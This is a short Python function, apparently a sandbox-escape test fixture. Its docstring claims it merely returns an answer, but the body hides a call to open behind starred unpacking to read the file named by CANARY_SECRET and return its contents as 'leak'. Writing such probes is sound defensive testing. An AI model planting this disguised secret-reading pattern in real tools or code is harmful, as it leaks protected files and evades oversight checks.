def escape_starred_names() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        opener, *_ = [open]
        leak = opener(CANARY_SECRET).read()
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
